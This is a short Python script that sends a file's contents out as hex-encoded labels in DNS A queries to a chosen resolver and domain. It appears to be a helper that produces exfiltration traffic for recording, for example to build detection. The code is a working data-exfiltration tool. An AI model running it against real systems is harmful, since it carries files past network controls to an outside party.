#!/usr/bin/env python3
"""dns_exfil_a.py: used only by record.sh (exfil_dns_a). Sends a file to a resolver as
hex labels in plain A queries, <hex chunk>.<seq>.<session>.<domain>, one query at a time,
waiting for each answer (as DNS exfiltration scripts do, so nothing is lost).

Usage: dns_exfil_a.py FILE SOURCE_IP RESOLVER DOMAIN [CHUNK_BYTES]"""
import os
import random
import socket
import struct
import sys


def query(qid, name):
    hdr = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)  # RD set, one question
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"
    return hdr + q + struct.pack(">HH", 1, 1)  # A, IN


def main():
    path, src, resolver, domain = sys.argv[1:5]
    chunk = int(sys.argv[5]) if len(sys.argv) > 5 else 30
    data = open(path, "rb").read()
    session = "%04x" % random.randrange(0x10000)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.settimeout(1.0)
    for seq, off in enumerate(range(0, len(data), chunk)):
        name = "%s.%d.%s.%s" % (data[off:off + chunk].hex(), seq, session, domain)
        qid = random.randrange(0x10000)
        for _ in range(3):  # resend on loss, as the real tools do
            s.sendto(query(qid, name), (resolver, 53))
            try:
                s.recv(4096)
                break
            except socket.timeout:
                continue


if __name__ == "__main__":
    main()
